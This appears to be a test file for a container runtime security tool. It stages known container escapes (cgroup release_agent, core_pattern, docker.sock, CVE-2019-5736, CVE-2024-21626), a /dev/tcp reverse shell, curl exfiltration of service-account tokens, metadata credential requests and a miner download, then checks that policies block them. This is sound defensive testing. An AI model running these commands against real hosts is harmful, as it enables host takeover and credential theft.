// Attacks known from real containers, each twice: without a policy it lands, as the host or the far
// end confirms, and under the ready-made policies it does not. docs/runtime-scenarios.md is the
// table of these tests.

import { execFileSync, spawn } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { release } from 'node:os';
import path from 'node:path';
import type { PolicySet } from '@bailiff/runtime';
import { waitFor } from '@bailiff/service/testing';
import { afterAll, afterEach, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { LOAD_TIMEOUT_MS } from './harness/rig.ts';
import { useRig } from './harness/use-rig.ts';
import {
  AS_CONTAINERS_ARE,
  type Ended,
  linkedRuntime,
  operations,
  preload,
  readyMadePolicy,
  readySet,
  readySetWithout,
  Stage,
} from './scenarios-rig.ts';

const CORE_PATTERN = '/proc/sys/kernel/core_pattern';
const MODPROBE = '/proc/sys/kernel/modprobe';
const METADATA = (readyMadePolicy('metadata-guard').rules[0]?.network?.cidrs ?? []).map(
  (cidr) => cidr.split('/')[0] ?? '',
);
const POOL = '203.0.113.7';
const TOKEN = '/run/secrets/kubernetes.io/serviceaccount/token';
const CLOUD_TOKENS = [
  '/run/secrets/eks.amazonaws.com/serviceaccount/token',
  '/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token',
  '/run/secrets/azure/tokens/azure-identity-token',
  '/run/secrets/tokens/gcp-ksa/token',
];
const LOADER = process.arch === 'arm64' ? '/usr/lib/ld-linux-aarch64.so.1' : '/usr/lib64/ld-linux-x86-64.so.2';

/** Whether it landed, as the host or the far end confirms; both may need time. */
type Landed = () => boolean;

interface Scenario {
  readonly name: string;
  readonly policies: readonly string[];
  readonly attack: (stage: Stage) => Promise<Landed>;
  /** The rules that refused an operation of the attack, sorted. */
  readonly refusedBy: readonly string[];
  /** The rule that refuses it after those of `refusedBy` are removed. */
  readonly behind?: string;
}

const rig = useRig();
let stage: Stage;
/** Requests and lines that the servers of the far end received. */
const received: string[] = [];
const servers: (Server | HttpServer)[] = [];
let webPort = 0;
let shellPort = 0;

async function listening<T extends Server | HttpServer>(server: T, where: object): Promise<T> {
  servers.push(server);
  server.listen(where);
  await once(server, 'listening');
  return server;
}
const portOf = (server: Server | HttpServer): number => (server.address() as AddressInfo).port;

/** Records requests, and serves a program to download. */
const web = (name: string): HttpServer =>
  createHttpServer((request, response) => {
    let body = '';
    request.on('data', (chunk) => {
      body += chunk;
    });
    request.on('end', () => {
      received.push(`${name} ${request.method} ${request.url} ${body}`);
      response.end(request.url === '/miner' ? readFileSync(operations()) : 'answer');
    });
  });

/** Records all lines; sends `greeting` first. */
const plain = (name: string, greeting: string): Server =>
  createServer((socket) => {
    socket.on('data', (chunk) => received.push(`${name} ${chunk}`));
    socket.on('error', (error) => received.push(`${name} ${error.message}`));
    socket.write(greeting);
  });

const receives =
  (text: string): Landed =>
  () =>
    received.some((line) => line.includes(text));
const succeeds =
  ({ code }: Ended): Landed =>
  () =>
    code === 0;
const says =
  (text: string, { lines }: Ended): Landed =>
  () =>
    lines.includes(text);
const isOwned =
  (file: string): Landed =>
  () =>
    readFileSync(file).subarray(0, 5).toString() === 'owned';

/**
 * A script that the host would run, at a path that the host finds; later lines of the script have
 * its path in $agent.
 */
const AGENT = (stage: Stage): string =>
  `set -e; printf '#!/bin/sh\\necho owned > ${stage.host}/proof\\n' > /agent; chmod +x /agent; agent=${stage.upper('agent')}\n`;
/** Proof that only the host can create. */
async function proven(stage: Stage, ended: Promise<Ended>): Promise<Landed> {
  await ended;
  return () => existsSync(path.join(stage.host, 'proof'));
}
let hierarchies = 0;
const releaseAgent = (stage: Stage, dir: string): string => `${AGENT(stage)}
  mkdir ${dir}/x
  echo 1 > ${dir}/x/notify_on_release
  echo $agent > ${dir}/release_agent
  dash -c 'echo $$ > ${dir}/x/cgroup.procs'`;
/** A cgroup v1 hierarchy for a privileged pod, which this node has beside v2. */
function giveHierarchy(stage: Stage): string {
  const name = `given-${hierarchies++}`;
  stage.mount('mnt', '-t', 'cgroup', '-o', `none,name=${name}`, 'cgroup');
  return name;
}

/**
 * A runtime of the host that the container could overwrite, and an image that makes it run itself.
 */
function hostileImage(stage: Stage): string {
  const runtime = path.join(stage.host, 'runtime');
  copyFileSync(linkedRuntime(), runtime);
  copyFileSync(preload(), path.join(stage.root, 'tmp/evil.so'));
  writeFileSync(path.join(stage.root, 'etc/ld.so.preload'), '/tmp/evil.so\n');
  return runtime;
}

function innerFolder(stage: Stage): string {
  const inner = path.join(stage.host, 'inner');
  mkdirSync(inner, { recursive: true });
  return inner;
}

async function dropped(stage: Stage, name: string, port = 3333): Promise<Landed> {
  await stage.sh(
    `set -e; curl -sfo /tmp/${name} http://127.0.0.1:${webPort}/miner; chmod +x /tmp/${name}; /tmp/${name} pool ${POOL} ${port}`,
  );
  return receives('pool {"method":"mining.subscribe"}');
}

function withToken(stage: Stage, token = TOKEN): void {
  mkdirSync(path.join(stage.root, path.dirname(token)), { recursive: true });
  stage.mount(path.dirname(token), '-t', 'tmpfs', 'token');
  writeFileSync(path.join(stage.root, token), 'eyJhbGciOi');
}

/** Copies a shell without starting one. */
const COPY_SHELL = ['/usr/bin/acts', 'run', '/usr/bin/cp', '/usr/bin/bash', '/tmp/sh-x', ','];
/** Executes the commands of the far end. */
const SHELL = (): string => `exec 3<>/dev/tcp/127.0.0.1/${shellPort}; read c <&3; $c >&3; read c <&3`;

/** A shell in the container's layer that is no copy of one of the image. */
async function broughtShell(stage: Stage): Promise<Landed> {
  copyFileSync('/usr/bin/bash', path.join(stage.root, 'tmp/sh-x'));
  await stage.run(['/usr/bin/acts', 'run', '/tmp/sh-x', '-c', SHELL()]);
  return receives('shell uid=0(root)');
}

/** A scenario of escape-guard. */
const escaping = (
  name: string,
  attack: Scenario['attack'],
  refusedBy: string | readonly string[],
  behind?: string,
): Scenario => ({
  name,
  attack,
  policies: ['escape-guard'],
  refusedBy: [refusedBy].flat(),
  ...(behind === undefined ? {} : { behind }),
});

/** Engines that start containers for every client of their socket. */
const ENGINES: Readonly<Record<string, string>> = {
  docker: '/run/docker.sock',
  'cri-dockerd': '/run/cri-dockerd.sock',
  containerd: '/run/k3s/containerd/containerd.sock',
  crio: '/run/crio/crio.sock',
  podman: '/run/podman/podman.sock',
  buildkit: '/run/buildkit/buildkitd.sock',
};

const ESCAPES: readonly Scenario[] = [
  escaping(
    'CVE-2019-5736, entry point /proc/self/exe',
    async (stage) => {
      const runtime = hostileImage(stage);
      await stage.run(['/proc/self/exe'], { runtime });
      return isOwned(runtime);
    },
    'host-binaries',
  ),
  escaping(
    'CVE-2019-5736, /proc/<pid>/exe of the runtime that enters',
    async (stage) => {
      const runtime = hostileImage(stage);
      const mate = stage.start(['/usr/bin/scenario-ops', 'catch', '/tmp/held', '/tmp/go']);
      await mate.line('ready');
      stage.start(['/proc/self/exe'], { runtime, env: { HOLD: '1' } });
      await mate.exit();
      return isOwned(runtime);
    },
    'host-binaries',
  ),
  escaping(
    'CVE-2022-0492, cgroup v1 mounted and its release agent set',
    (stage) => {
      const mount = `mkdir -p /tmp/c; mount -t cgroup -o none,name=own-${hierarchies++} cgroup /tmp/c`;
      return proven(stage, stage.sh(`set -e; ${mount}; ${releaseAgent(stage, '/tmp/c')}`));
    },
    'namespaces',
    'mounts',
  ),
  escaping(
    'CVE-2022-0492, release agent of a hierarchy that the pod was given',
    (stage) => {
      giveHierarchy(stage);
      return proven(stage, stage.sh(releaseAgent(stage, '/mnt')));
    },
    'release-agent',
  ),
  escaping(
    'CVE-2022-0492, to a cgroup mount by a user namespace',
    async (stage) =>
      succeeds(await stage.sh(`unshare -UrmC mount -t cgroup -o none,name=${giveHierarchy(stage)} cgroup /mnt`)),
    'user-namespaces',
  ),
  escaping(
    'CVE-2024-21626, leaked descriptor of a folder of the host',
    (stage) => proven(stage, stage.sh('cd /proc/self/fd/9; echo owned > ../proof', { leaked: innerFolder(stage) })),
    'host-binaries',
  ),
  escaping(
    'CVE-2024-21626, working directory on the host',
    (stage) => {
      const options = { leaked: innerFolder(stage), env: { WORKDIR: '/proc/self/fd/9' } };
      return proven(stage, stage.sh('echo owned > ../proof', options));
    },
    'host-binaries',
  ),
  ...Object.entries(ENGINES).map(([name, socket]) =>
    escaping(
      `${path.basename(socket)} mounted`,
      async (stage) => {
        const request = `-d '{"Privileged":true}' http://engine/containers/create`;
        await stage.sh(`curl -s --unix-socket ${stage.share(socket)} ${request}`);
        return receives(`${name} POST /containers/create {"Privileged":true}`);
      },
      'runtime-sockets',
    ),
  ),
  escaping(
    'socket of the host’s init, its directory renamed in a volume of /run',
    async (stage) => {
      stage.mount('opt', '--bind', '/run');
      const request = 'curl -s --unix-socket /opt/other/private -d StartUnit http://init/';
      await stage.sh(`mv /opt/systemd /opt/other; ${request}; mv /opt/other /opt/systemd`);
      return receives('init POST / StartUnit');
    },
    'runtime-sockets',
  ),
  escaping(
    'docker.sock renamed in a volume of /run',
    async (stage) => {
      stage.mount('opt', '--bind', '/run');
      const request = 'curl -s --unix-socket /opt/other -d x http://engine/containers/create';
      await stage.sh(`mv /opt/docker.sock /opt/other; ${request}; mv /opt/other /opt/docker.sock`);
      return receives('docker POST /containers/create x');
    },
    'runtime-sockets',
  ),
  escaping(
    'nsenter by hostPID',
    (stage) => proven(stage, stage.sh(`nsenter -t 1 -m -- dash -c 'echo owned > ${stage.host}/proof'`)),
    'other-tasks',
  ),
  escaping(
    '/proc/1/root by hostPID',
    (stage) => proven(stage, stage.sh(`echo owned > /proc/1/root${stage.host}/proof`)),
    'other-tasks',
  ),
  escaping(
    'a process of the host stopped by hostPID',
    async (stage) => {
      const victim = spawn('sleep', ['600']);
      onTestFinished(() => void victim.kill('SIGKILL'));
      await stage.sh(`kill -KILL ${victim.pid}`);
      return () => victim.signalCode !== null;
    },
    'other-tasks',
  ),
  escaping(
    'a process of the host stopped by the signal of a file',
    async (stage) => {
      const victim = spawn('sleep', ['600']);
      onTestFinished(() => void victim.kill('SIGKILL'));
      await stage.ops('owner', `${victim.pid}`);
      return () => victim.signalCode !== null;
    },
    'other-tasks',
  ),
  escaping(
    'core_pattern',
    (stage) => {
      const crash = "dash -c 'kill -SEGV $$' || true";
      return proven(stage, stage.sh(`${AGENT(stage)} echo "|$agent" > ${CORE_PATTERN}; ${crash}`));
    },
    'core-pattern',
  ),
  escaping(
    'path of the kernel’s modprobe',
    async (stage) => {
      await stage.sh(`${AGENT(stage)} echo $agent > ${MODPROBE}`);
      return () => readFileSync(MODPROBE, 'utf8').trim() === stage.upper('agent');
    },
    'kernel-helpers',
  ),
  escaping(
    'command of the kernel’s power-off',
    async (stage) => succeeds(await stage.sh('echo /tmp/agent > /proc/sys/kernel/poweroff_cmd')),
    'kernel-helpers',
  ),
  escaping('sysrq', async (stage) => succeeds(await stage.sh('echo h > /proc/sysrq-trigger')), 'sysrq'),
  escaping(
    'module load',
    async (stage) => {
      const module = `/usr/lib/modules/${release()}/kernel/drivers/net/nlmon.ko.xz`;
      copyFileSync(module, path.join(stage.root, 'tmp/nlmon.ko.xz'));
      await stage.sh('insmod /tmp/nlmon.ko.xz');
      return () => existsSync('/sys/module/nlmon');
    },
    'host-capabilities',
    'modules',
  ),
  escaping('BPF load', async (stage) => says('landed', await stage.ops('bpf')), 'bpf'),
  escaping(
    'device node of the host',
    async (stage) => succeeds(await stage.sh('rm -f /tmp/mem; mknod /tmp/mem c 1 1')),
    'device-nodes',
  ),
  escaping(
    'new mount API, a fresh proc that is mounted nowhere',
    async (stage) => {
      await stage.ops('fsopen', 'sys/kernel/core_pattern', 'owned');
      return isOwned(CORE_PATTERN);
    },
    'namespaces',
    'mounts',
  ),
  escaping(
    'new mount API, beneath the read-only /proc/sys of runc',
    async (stage) => {
      const words = ['clone', '/proc', 'sys/kernel/core_pattern', 'owned'];
      await stage.runc(['/usr/bin/scenario-ops', ...words], ['CAP_SYS_ADMIN']).run();
      return isOwned(CORE_PATTERN);
    },
    'namespaces',
    'mounts',
  ),
  escaping(
    'new mount API, a clone attached elsewhere',
    async (stage) => says('landed', await stage.ops('attach', '/', '/mnt')),
    'namespaces',
    'mounts',
  ),
];

const PROGRAMS: readonly Scenario[] = [
  {
    name: 'miner dropped and run',
    policies: ['immutable-image'],
    attack: (stage) => dropped(stage, 'kworker'),
    refusedBy: ['drift'],
  },
  {
    name: 'miner under another name',
    policies: ['no-crypto-miners'],
    attack: (stage) => dropped(stage, 'kworker'),
    refusedBy: ['pool-ports'],
  },
  {
    name: 'miner under its own name',
    policies: ['no-crypto-miners'],
    attack: (stage) => dropped(stage, 'xmrig'),
    refusedBy: ['miner-programs'],
  },
  {
    name: 'miner under its own name, by the loader',
    policies: ['no-crypto-miners'],
    attack: async (stage) => succeeds(await stage.sh(`cp /usr/bin/true /tmp/xmrig && ${LOADER} /tmp/xmrig`)),
    refusedBy: ['miner-programs'],
  },
  {
    name: 'fileless, memfd',
    policies: ['no-fileless-exec'],
    attack: async (stage) => says('landed', await stage.ops('memfd', '/usr/bin/scenario-ops', 'quick')),
    refusedBy: ['memory'],
  },
  {
    name: 'fileless, a library from memfd',
    policies: ['no-fileless-exec'],
    attack: async (stage) => says('landed', await stage.ops('mapped', '/usr/bin/scenario-ops')),
    refusedBy: ['memory'],
  },
  {
    name: 'fileless, a file without a name on /dev/shm',
    policies: ['no-fileless-exec'],
    attack: async (stage) => says('landed', await stage.ops('tmpfile', '/usr/bin/scenario-ops')),
    refusedBy: ['memory'],
  },
  {
    name: 'fileless, /dev',
    policies: ['no-fileless-exec'],
    attack: async (stage) => succeeds(await stage.sh('cp /usr/bin/true /dev/x && /dev/x')),
    refusedBy: ['memory'],
  },
  {
    name: 'fileless, /dev/shm by the loader',
    policies: ['no-fileless-exec'],
    attack: async (stage) => succeeds(await stage.sh(`cp /usr/bin/true /dev/shm/x && ${LOADER} /dev/shm/x`)),
    refusedBy: ['memory'],
  },
  {
    name: 'reverse shell',
    policies: ['no-shell'],
    async attack(stage) {
      await stage.run(['/usr/bin/acts', 'run', '/usr/bin/bash', '-c', SHELL()]);
      return receives('shell uid=0(root)');
    },
    refusedBy: ['shell'],
  },
  {
    name: 'reverse shell of a copied bash',
    policies: ['no-shell'],
    async attack(stage) {
      await stage.run([...COPY_SHELL, 'run', '/tmp/sh-x', '-c', SHELL()]);
      return receives('shell uid=0(root)');
    },
    refusedBy: ['shell-copy'],
  },
  {
    name: 'reverse shell of a downloaded bash',
    policies: ['no-shell', 'immutable-image'],
    attack: (stage) => broughtShell(stage),
    refusedBy: ['drift'],
  },
  {
    name: 'service-account token sent away by curl',
    policies: ['service-account-token-guard'],
    async attack(stage) {
      withToken(stage);
      await stage.sh(`curl -s -d @/var${TOKEN} http://127.0.0.1:${webPort}/token`);
      return receives('web POST /token eyJhbGciOi');
    },
    refusedBy: ['token-by-shell'],
  },
  ...CLOUD_TOKENS.map(
    (token): Scenario => ({
      name: `token of a cloud sent away from a shell, ${token}`,
      policies: ['service-account-token-guard'],
      async attack(stage) {
        withToken(stage, token);
        await stage.sh(`curl -s -d "$(cat /var${token})" http://127.0.0.1:${webPort}/token`);
        return receives('web POST /token eyJhbGciOi');
      },
      refusedBy: ['token-by-shell'],
    }),
  ),
  {
    name: 'service-account token sent away by a downloader without a shell',
    policies: ['service-account-token-guard'],
    async attack(stage) {
      withToken(stage);
      await stage.run(['/usr/bin/curl', '-s', '-d', `@/var${TOKEN}`, `http://127.0.0.1:${webPort}/token`]);
      return receives('web POST /token eyJhbGciOi');
    },
    refusedBy: ['token-by-downloader'],
  },
  ...METADATA.map(
    (address): Scenario => ({
      name: `metadata endpoint ${address}`,
      policies: ['metadata-guard'],
      async attack(stage) {
        const zone = address.startsWith('fe80:') ? '%25far0' : '';
        const host = address.includes(':') ? `[${address}${zone}]` : address;
        await stage.sh(`curl -s 'http://${host}/latest/meta-data/iam/security-credentials/'`);
        return receives('metadata GET /latest/meta-data/iam/security-credentials/');
      },
      refusedBy: ['metadata'],
    }),
  ),
  {
    name: 'CVE-2026-31431, AF_ALG',
    policies: ['af-alg'],
    attack: async (stage) => says('landed', await stage.ops('alg')),
    refusedBy: ['alg-socket'],
  },
];

/**
 * Attacks that the ready-made policies do not stop, by name. Each lands, and nothing is counted.
 */
const SLIPS: readonly Omit<Scenario, 'refusedBy'>[] = [
  {
    name: 'a file of the host that was open when the runtime leaked it',
    policies: ['escape-guard'],
    attack: async (stage) => {
      const file = path.join(stage.host, 'file');
      writeFileSync(file, '');
      await stage.sh('echo owned >&9', { leaked: file });
      return isOwned(file);
    },
  },
  {
    name: 'a disk of the host, in the /dev of a privileged container',
    policies: ['escape-guard', 'immutable-image'],
    async attack(stage) {
      const file = path.join(stage.host, 'disk');
      writeFileSync(file, Buffer.alloc(1 << 20));
      execFileSync('modprobe', ['loop']);
      const disk = execFileSync('losetup', ['--find', '--show', file], { encoding: 'utf8' }).trim();
      onTestFinished(() => void execFileSync('losetup', ['--detach', disk]));
      await stage.sh(`echo owned > ${disk}`);
      return () => readFileSync(disk).subarray(0, 5).toString() === 'owned';
    },
  },
  {
    name: 'an engine that listens at a path of its own',
    policies: ['escape-guard'],
    async attack(stage) {
      await stage.sh(`curl -s --unix-socket ${stage.share('/run/engine')} -d x http://engine/containers/create`);
      return receives('engine POST /containers/create x');
    },
  },
  {
    name: 'an engine that listens at a path of its own, renamed in a volume of /run',
    policies: ['escape-guard'],
    async attack(stage) {
      stage.mount('opt', '--bind', '/run');
      const request = 'curl -s --unix-socket /opt/other -d x http://engine/containers/create';
      await stage.sh(`mv /opt/engine /opt/other; ${request}; mv /opt/other /opt/engine`);
      return receives('engine POST /containers/create x');
    },
  },
  {
    name: 'a downloaded script for an interpreter of the image',
    policies: ['immutable-image'],
    attack: async (stage) =>
      says('owned', await stage.sh('echo \'print "owned\\n"\' > /tmp/x; chmod +x /tmp/x; perl /tmp/x')),
  },
  {
    name: 'a shell that was brought in from outside, under another name',
    policies: ['no-shell'],
    attack: (stage) => broughtShell(stage),
  },
  {
    name: 'a miner under another name, to a pool on port 443',
    policies: ['no-crypto-miners'],
    attack: (stage) => dropped(stage, 'kworker', 443),
  },
  {
    name: 'the token, read by the pod’s own program',
    policies: ['service-account-token-guard'],
    async attack(stage) {
      withToken(stage);
      return says('eyJhbGciOi', await stage.run(['/usr/bin/perl', '-pe', '$_ .= "\n"', TOKEN]));
    },
  },
  {
    name: 'code written into anonymous memory',
    policies: ['no-fileless-exec', 'immutable-image'],
    attack: async (stage) => says('map-anonymous memory: ok', await stage.run(['/usr/bin/acts', 'map-anonymous'])),
  },
];

beforeAll(async () => {
  stage = new Stage(rig);
  for (const compiled of [operations, linkedRuntime, preload]) compiled();
  execFileSync('ip', ['link', 'add', 'far0', 'type', 'dummy']);
  for (const address of [...METADATA, POOL]) {
    const prefix = address.includes(':') ? [`${address}/128`, 'nodad'] : [`${address}/32`];
    execFileSync('ip', ['addr', 'add', ...prefix, 'dev', 'far0']);
  }
  execFileSync('ip', ['link', 'set', 'far0', 'up']);
  webPort = portOf(await listening(web('web'), { host: '127.0.0.1', port: 0 }));
  shellPort = portOf(await listening(plain('shell', 'id\nexit\n'), { host: '127.0.0.1', port: 0 }));
  await listening(web('metadata'), { host: '::', port: 80 });
  for (const port of [443, 3333]) await listening(plain('pool', ''), { host: POOL, port });
  await listening(web('engine'), { path: '/run/engine' });
  for (const [name, socket] of Object.entries({ ...ENGINES, init: '/run/systemd/private' })) {
    mkdirSync(path.dirname(socket), { recursive: true });
    await listening(web(name), { path: socket });
  }
}, LOAD_TIMEOUT_MS);

afterAll(() => {
  for (const server of servers) server.close();
  execFileSync('ip', ['link', 'del', 'far0']);
  stage?.[Symbol.dispose]();
});

/** Saved, because an attack changes these files of the machine or of the container. */
const before = [CORE_PATTERN, MODPROBE].map((file) => [file, readFileSync(file, 'utf8')] as const);
function restore(): void {
  for (const [file, text] of before) writeFileSync(file, text);
  if (existsSync('/sys/module/nlmon')) execFileSync('rmmod', ['nlmon']);
  for (const file of ['etc/ld.so.preload', 'tmp/held', 'tmp/go', 'tmp/sh-x'])
    rmSync(path.join(stage.root, file), { force: true });
  rmSync(path.join(stage.host, 'proof'), { force: true });
  received.length = 0;
}
afterEach(restore);

/**
 * Runs it under a set, or none. @returns whether it landed, and the rules that refused an operation
 */
async function played(attack: Scenario['attack'], set: PolicySet | null): Promise<[boolean, string[]]> {
  if (set === null) rig.object.maps.pods.delete(stage.pod.uid);
  else stage.pod.put(set);
  const landed = await attack(stage);
  if (set === null) await waitFor(landed, { what: 'the attack to land', state: () => [received, stage.lastLines()] });
  const outcome: [boolean, string[]] = [landed(), set === null ? [] : Object.keys(stage.pod.counts()).sort()];
  restore();
  return outcome;
}

describe.each([
  ['escapes', ESCAPES],
  ['programs and secrets', PROGRAMS],
])('%s', (_, scenarios) => {
  it.each(scenarios.map((scenario) => [scenario.name, scenario] as const))(
    '%s - lands without a policy and not with the ready-made one',
    async (_name, { attack, policies, refusedBy, behind }) => {
      expect(await played(attack, null)).toEqual([true, []]);
      expect(await played(attack, readySet(...policies))).toEqual([false, [...refusedBy]]);
      if (behind === undefined) return;
      const rest = readySetWithout(refusedBy, ...policies);
      expect(await played(attack, rest)).toEqual([false, [behind]]);
    },
  );
});

describe('not covered', () => {
  it.each(SLIPS.map((scenario) => [scenario.name, scenario] as const))('%s', async (_name, scenario) => {
    stage.pod.put(readySet(...scenario.policies));
    const landed = await scenario.attack(stage);
    await waitFor(landed, { what: 'the attack to land', state: () => [received, stage.lastLines()] });
    expect(stage.pod.counts()).toEqual({});
  });
});

describe('raw sockets', () => {
  const FORGED = '198.51.100.9';
  const maker = (lines: readonly string[]) => {
    const [pid, cookie = ''] = (lines[0] ?? '').split(' ');
    return { tgid: Number(pid), maker: rig.object.maps.socketMaker(BigInt(cookie)) };
  };
  const known = { program: '/usr/bin/scenario-ops', comm: 'scenario-ops', uid: 0, type: 3 };

  /** Receives datagrams on loopback and records their claimed source addresses. */
  async function listener(
    type: 'udp4' | 'udp6',
  ): Promise<{ port: string; from: string[]; receivedOne(): Promise<void> } & Disposable> {
    const socket = createSocket(type);
    const from: string[] = [];
    socket.on('message', (_text, { address }) => from.push(address));
    socket.bind(0, type === 'udp4' ? '127.0.0.1' : '::1');
    await once(socket, 'listening');
    const receivedOne = async () =>
      void (await waitFor(() => from.length > 0, { what: 'the forged packet', state: () => stage.lastLines() }));
    return { port: `${socket.address().port}`, from, receivedOne, [Symbol.dispose]: () => socket.close() };
  }

  it('spoofing - lands without a policy, and the cookie identifies its maker; with the ready-made one there is no socket', async () => {
    using far = await listener('udp4');
    const forge = () => stage.ops('forge', FORGED, '127.0.0.1', far.port);
    rig.object.maps.pods.delete(stage.pod.uid);
    const { lines } = await forge();
    await far.receivedOne();
    expect(far.from).toEqual([FORGED]);
    const { tgid, maker: found } = maker(lines);
    expect(found).toMatchObject({ ...known, tgid, pod: stage.pod.uid, family: 2, protocol: 255 });
    stage.pod.put(readySet('no-raw-sockets'));
    expect((await forge()).lines).toEqual(['socket: EPERM']);
    expect(stage.pod.counts()).toEqual({ raw: 1 });
    expect(far.from).toEqual([FORGED]);
  });

  it('spoofing by IP_TRANSPARENT - lands without a policy; with the ready-made one the option is refused, and an honest packet arrives', async () => {
    using far = await listener('udp4');
    const forge = () =>
      stage.run([...AS_CONTAINERS_ARE, '/usr/bin/scenario-ops', 'transparent', FORGED, '127.0.0.1', far.port]);
    rig.object.maps.pods.delete(stage.pod.uid);
    expect((await forge()).lines).toEqual(['landed']);
    await far.receivedOne();
    expect(far.from.splice(0)).toEqual([FORGED]);
    stage.pod.put(readySet('no-raw-sockets'));
    expect((await forge()).lines).toEqual(['transparent: EPERM']);
    expect(stage.pod.counts()).toEqual({ 'net-raw': 1 });
    await stage.run([...AS_CONTAINERS_ARE, '/usr/bin/bash', '-c', `echo x > /dev/udp/127.0.0.1/${far.port}`]);
    await far.receivedOne();
    expect(far.from).toEqual(['127.0.0.1']);
    expect(stage.pod.counts()).toEqual({ 'net-raw': 1 });
  });

  it('not covered - IP_TRANSPARENT with CAP_NET_ADMIN, which the kernel checks if CAP_NET_RAW was refused', async () => {
    using far = await listener('udp4');
    stage.pod.put(readySet('no-raw-sockets'));
    expect((await stage.ops('transparent', FORGED, '127.0.0.1', far.port)).lines).toEqual(['landed']);
    await far.receivedOne();
    expect([far.from, stage.pod.counts()]).toEqual([[FORGED], { 'net-raw': 1 }]);
  });

  it('not covered - an IPv6 source by IPV6_FREEBIND, which needs no capability', async () => {
    using far = await listener('udp6');
    stage.pod.put(readySet('no-raw-sockets'));
    const without = ['/usr/bin/setpriv', '--inh-caps=-all', '--bounding-set=-all'];
    const forge = ['/usr/bin/scenario-ops', 'freebind', '2001:db8::9', '::1', far.port];
    expect((await stage.run([...without, ...forge])).lines).toEqual(['landed']);
    await far.receivedOne();
    expect([far.from, stage.pod.counts()]).toEqual([['2001:db8::9'], {}]);
  });

  it('frames - the same with a packet socket', async () => {
    const sent = () => Number(readFileSync('/sys/class/net/far0/statistics/tx_packets', 'utf8'));
    const frame = () => stage.ops('frame', 'far0');
    rig.object.maps.pods.delete(stage.pod.uid);
    const earlier = sent();
    const { lines } = await frame();
    expect([lines[1], sent() > earlier]).toEqual(['landed', true]);
    const { tgid, maker: found } = maker(lines);
    expect(found).toMatchObject({ ...known, tgid, pod: stage.pod.uid, family: 17, protocol: 3 });
    stage.pod.put(readySet('no-raw-sockets'));
    expect((await frame()).lines).toEqual(['socket: EPERM']);
    expect(stage.pod.counts()).toEqual({ packet: 1 });
  });
});
